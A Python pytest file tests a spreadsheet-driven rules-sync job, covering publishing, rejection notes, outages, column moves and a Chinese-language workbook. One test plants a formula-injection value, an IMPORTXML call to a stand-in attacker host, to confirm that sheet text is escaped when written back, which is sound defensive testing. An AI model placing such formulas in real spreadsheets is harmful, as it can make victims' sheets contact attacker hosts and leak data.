"""The rules-sync job end to end: a Google workbook (the fake Sheets API over HTTP, read by
the real gspread client) → validation → a published version or a rejection reported in the sheet."""

from __future__ import annotations

import pytest

from bench.sheets import example_tabs
from infra.local.inspect import list_events
from schedules.rules_sync import handler
from shared.adapters.container import Container, reset_container
from tests.fakes.sheets_api import FakeSheetsApi

SCHEDULE_EVENT = {"detail-type": "Scheduled Event", "source": "aws.events", "time": "2026-11-22T08:00:00Z"}


@pytest.fixture(scope="module")
def fake():
    api = FakeSheetsApi()
    api.endpoint = api.start()
    yield api
    api.stop()


@pytest.fixture
def workbook(fake, clean_aws, monkeypatch):
    """A Google workbook with the example rules, which the rules-sync job is configured to read."""
    spreadsheet_id = fake.add_spreadsheet("Closeloop rules", example_tabs())
    monkeypatch.setenv("CLOSELOOP_SHEETS_ENDPOINT", fake.endpoint)
    monkeypatch.setenv("SPREADSHEET_ID", spreadsheet_id)
    container = Container()
    reset_container(container)
    fake.reset_requests()
    return spreadsheet_id


def status(fake, spreadsheet_id):
    return {row[0]: row[1:] for row in fake.values(spreadsheet_id, "Status") if row}


def edit(fake, spreadsheet_id, tab, row, column, text):
    """What an ops person's edit does: change one cell (row/column counted from 0, header = row 0)."""
    book = fake.books[spreadsheet_id]
    sheet = book.sheet(title=tab)
    sheet.cells.setdefault((row, column), {})["userEnteredValue"] = {"stringValue": text}


def test_the_same_rules_from_google_are_unchanged(fake, workbook, clean_aws):
    summary = handler(SCHEDULE_EVENT, None)  # the examples are already live, read from CSV files
    assert summary["status"] == "unchanged" and summary["version_id"] == clean_aws.rules_store.active().version_id


def test_a_changed_workbook_is_published_with_one_read_and_one_write(fake, workbook):
    edit(fake, workbook, "Settings", 1, 1, "85")  # sql_threshold 80 → 85
    summary = handler(SCHEDULE_EVENT, None)
    assert summary["status"] == "published" and summary["source"] == f"sheets:{workbook}"
    methods = [method for method, _ in fake.requests]
    assert methods.count("GET") == 1 and len(methods) == 2
    published = [e for e in list_events(event_type="RulesPublished") if e["data"]["source"].startswith("sheets:")]
    assert published[-1]["data"]["version_id"] == summary["version_id"]
    assert summary["version_id"] in str(status(fake, workbook))


def test_a_bad_edit_is_rejected_reported_at_its_cell_and_never_goes_live(fake, workbook, clean_aws):
    live = clean_aws.rules_store.active().version_id
    edit(fake, workbook, "Routing", 4, 1, "SMB Eest")  # row 5 of the sheet, column B: team
    summary = handler(SCHEDULE_EVENT, None)
    assert summary["status"] == "rejected" and summary["version_id"] == live
    assert clean_aws.rules_store.active().version_id == live
    [rejected] = list_events(event_type="RulesRejected")
    assert any(p.startswith("Routing!B5:") and "SMB Eest" in p for p in rejected["data"]["problems"])
    assert "SMB Eest" in fake.notes(workbook, "Routing")["B5"]
    assert any("Routing" in str(row) and "B5" in str(row) for row in fake.values(workbook, "Status"))


def test_fixing_the_cell_clears_the_note_and_keeps_peoples_notes(fake, workbook):
    fake.set_note(workbook, "Owners", "A2", "Chen is on leave in December")
    edit(fake, workbook, "Routing", 4, 1, "SMB Eest")
    handler(SCHEDULE_EVENT, None)
    edit(fake, workbook, "Routing", 4, 1, "SMB North")
    summary = handler(SCHEDULE_EVENT, None)
    assert summary["status"] in ("published", "unchanged")
    assert "B5" not in fake.notes(workbook, "Routing")
    assert fake.notes(workbook, "Owners")["A2"] == "Chen is on leave in December"


def test_google_outage_keeps_the_last_good_version_and_says_why(fake, workbook, clean_aws):
    live = clean_aws.rules_store.active().version_id
    fake.fail_next(503, count=5)
    summary = handler(SCHEDULE_EVENT, None)
    assert summary["status"] == "failed" and summary["version_id"] == live
    [failed] = list_events(event_type="RulesSyncFailed")
    assert "503" in failed["data"]["error"] and clean_aws.rules_store.active().version_id == live


def test_text_from_the_sheet_is_escaped_when_written_back(fake, workbook):
    edit(fake, workbook, "Routing", 4, 1, '=IMPORTXML("http://evil.example","//a")')
    handler(SCHEDULE_EVENT, None)
    cells = [cell for row in fake.values(workbook, "Status") for cell in row]
    dangerous = [c for c in cells if "IMPORTXML" in c]
    assert dangerous and all(not c.lstrip().startswith("=") for c in dangerous)


def test_without_a_spreadsheet_the_job_does_nothing(clean_aws, monkeypatch):
    monkeypatch.delenv("SPREADSHEET_ID", raising=False)
    monkeypatch.delenv("CLOSELOOP_RULES", raising=False)
    reset_container(Container())
    assert handler(SCHEDULE_EVENT, None)["status"] == "skipped"


def test_a_chinese_workbook_gets_its_status_in_chinese(fake, clean_aws, monkeypatch):
    from admin_sheets.tabs import TAB_BY_NAME

    tabs = {TAB_BY_NAME[name].zh: rows for name, rows in example_tabs().items()}
    spreadsheet_id = fake.add_spreadsheet("规则", tabs)
    monkeypatch.setenv("CLOSELOOP_SHEETS_ENDPOINT", fake.endpoint)
    monkeypatch.setenv("SPREADSHEET_ID", spreadsheet_id)
    reset_container(Container())
    summary = handler(SCHEDULE_EVENT, None)
    assert summary["status"] == "unchanged"  # the same rules as the English examples, by content
    assert "状态" in fake.tab_titles(spreadsheet_id)
    labels = [row[0] for row in fake.values(spreadsheet_id, "状态") if row]
    assert labels[:4] == ["最近同步", "规则版本", "结果", "问题数"]


# -- the sheet describes the workbook as it is now, whatever the outcome (issue 7) ---------------------

TEAM_TYPO = 'team "SMB Eest" is not the team of any owner'


def requests_made(fake):
    """One read and at most one write per sync."""
    methods = [method for method, _ in fake.requests]
    fake.reset_requests()
    return methods


def move_column(fake, spreadsheet_id, tab, source, target):
    """What dragging a column does in Google Sheets: its cells move, notes included."""
    sheet = fake.books[spreadsheet_id].sheet(title=tab)
    width = max(c for _, c in sheet.cells) + 1
    order = list(range(width))
    order.insert(target, order.pop(source))
    sheet.cells = {(r, order.index(c)): cell for (r, c), cell in sheet.cells.items()}


def result_of(fake, spreadsheet_id):
    return status(fake, spreadsheet_id)["Result"][0]


def problem_rows(fake, spreadsheet_id):
    """The Status tab's problem rows (tab, cell); warnings that do not stop publishing (e.g. the
    holidays package's estimated years, which depend on today's date) are left out."""
    rows = fake.values(spreadsheet_id, "Status")
    return [row[:2] for row in rows[6:] if row and not any("warning:" in str(cell) for cell in row)]


def test_restoring_the_live_rules_clears_notes_and_status(fake, workbook, clean_aws):
    live = clean_aws.rules_store.active().version_id
    fake.set_note(workbook, "Routing", "B5", "Liu: East takes Anhui from January")
    edit(fake, workbook, "Routing", 4, 1, "SMB Eest")
    edit(fake, workbook, "Owners", 2, 6, "lots")  # capacity of u_liu: Owners!G3
    assert handler(SCHEDULE_EVENT, None)["status"] == "rejected"
    assert problem_rows(fake, workbook) == [["Owners", "G3"], ["Routing", "B5"]]
    requests_made(fake)

    edit(fake, workbook, "Routing", 4, 1, "SMB East")  # both put back as they were: the live content again
    edit(fake, workbook, "Owners", 2, 6, "20")
    assert handler(SCHEDULE_EVENT, None)["status"] == "unchanged"

    assert requests_made(fake) == ["GET", "POST"]
    assert fake.notes(workbook, "Routing") == {"B5": "Liu: East takes Anhui from January"}
    assert "G3" not in fake.notes(workbook, "Owners")
    assert problem_rows(fake, workbook) == []
    assert status(fake, workbook)["Problems"] == ["0"]
    assert result_of(fake, workbook) == (
        f"unchanged: this workbook is already live, as version {live}; nothing new to publish"
    )


def test_a_held_rollback_clears_notes_and_says_what_held_means(fake, workbook, clean_aws):
    from shared.rules.services.rules_publishing import rollback_rules

    edit(fake, workbook, "Settings", 1, 1, "85")
    assert handler(SCHEDULE_EVENT, None)["status"] == "published"
    v1 = rollback_rules("1", clean_aws.rules_store, clean_aws.clock).version_id
    edit(fake, workbook, "Routing", 4, 1, "SMB Eest")
    assert handler(SCHEDULE_EVENT, None)["status"] == "rejected"
    assert TEAM_TYPO in fake.notes(workbook, "Routing")["B5"]
    requests_made(fake)

    edit(fake, workbook, "Routing", 4, 1, "SMB East")  # back to the rules that were rolled back
    assert handler(SCHEDULE_EVENT, None)["status"] == "held"

    assert requests_made(fake) == ["GET", "POST"]
    assert fake.notes(workbook, "Routing") == {}
    assert problem_rows(fake, workbook) == []
    assert result_of(fake, workbook) == (
        f"held: version {v1} stays live because it was rolled back to; the workbook still holds the rules "
        "that were rolled back; edit it to publish again"
    )


def test_a_moved_column_takes_its_note_along_and_leaves_none_behind(fake, workbook):
    edit(fake, workbook, "Routing", 4, 1, "SMB Eest")
    handler(SCHEDULE_EVENT, None)
    requests_made(fake)

    move_column(fake, workbook, "Routing", 1, 5)  # team: B → F
    assert handler(SCHEDULE_EVENT, None)["status"] == "rejected"
    assert requests_made(fake) == ["GET", "POST"]
    notes = fake.notes(workbook, "Routing")
    assert list(notes) == ["F5"] and TEAM_TYPO in notes["F5"]
    assert problem_rows(fake, workbook) == [["Routing", "F5"]]

    edit(fake, workbook, "Routing", 4, 5, "SMB East")  # fixed where it is now
    move_column(fake, workbook, "Routing", 5, 2)  # and moved again: F → C
    assert handler(SCHEDULE_EVENT, None)["status"] == "unchanged"  # reordering columns changes no rule
    assert requests_made(fake) == ["GET", "POST"]
    assert fake.notes(workbook, "Routing") == {}
    assert problem_rows(fake, workbook) == []


def test_the_result_says_what_was_rejected_and_what_stays_live(fake, workbook, clean_aws):
    live = clean_aws.rules_store.active().version_id
    edit(fake, workbook, "Routing", 4, 1, "SMB Eest")
    handler(SCHEDULE_EVENT, None)
    assert result_of(fake, workbook) == (
        f"rejected: this workbook has 1 problem(s), listed below, so nothing was published; version {live} stays live"
    )
    edit(fake, workbook, "Routing", 4, 1, "SMB North")  # a real change: published
    summary = handler(SCHEDULE_EVENT, None)
    assert result_of(fake, workbook) == f"published: this workbook is live now, as version {summary['version_id']}"
